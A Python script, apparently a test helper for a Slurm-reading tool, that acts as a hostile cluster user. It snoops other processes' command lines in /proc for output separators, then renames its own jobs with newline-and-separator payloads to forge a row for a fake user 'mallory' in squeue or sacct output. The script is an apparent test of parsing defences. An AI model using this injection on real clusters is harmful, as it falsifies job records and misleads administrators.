"""A hostile cluster user of the controller's host (issue 65, 4): reads every process's command
line in /proc for a Slurm reader's separator and, for each new one, renames one of its own held
jobs to forge a row in that separator's answer (a sacct's job is then cancelled, so that it has
ended). Runs until the file `stop` exists, then prints what it saw as JSON: [command, separator]
each."""

import json
import re
import subprocess
import sys
from pathlib import Path

SEPARATOR = re.compile(rb"\|[0-9a-f]{24}\|")


def forged_name(command: str, separator: str) -> str:
    """A name that, read with `separator`, ends its own row and adds one of job 999999's,
    mallory's, in the layout of `command`'s answer (squeue: 14 fields, sacct's history 13)."""
    width = 14 if command == "squeue" else 13
    return "x\n" + separator.join(["999999", "RUNNING", "mallory", *(["1"] * (width - 3))])


def main() -> None:
    jobs, stop = sys.argv[1].split(","), Path(sys.argv[2])
    seen: dict[bytes, str] = {}
    while not stop.exists():
        for process in Path("/proc").iterdir():
            if not process.name.isdigit():
                continue
            try:
                cmdline = (process / "cmdline").read_bytes()
            except OSError:
                continue
            for separator in SEPARATOR.findall(cmdline):
                if separator in seen:
                    continue
                command = Path(cmdline.split(b"\0")[0].decode()).name
                seen[separator] = command
                if not jobs:
                    continue
                job = jobs.pop()
                name = forged_name(command, separator.decode())
                subprocess.run(["scontrol", "update", f"JobId={job}", f"Name={name}"], check=False)
                if command == "sacct":
                    subprocess.run(["scancel", job], check=False)
    print(json.dumps([[command, s.decode()] for s, command in seen.items()]))


if __name__ == "__main__":
    main()
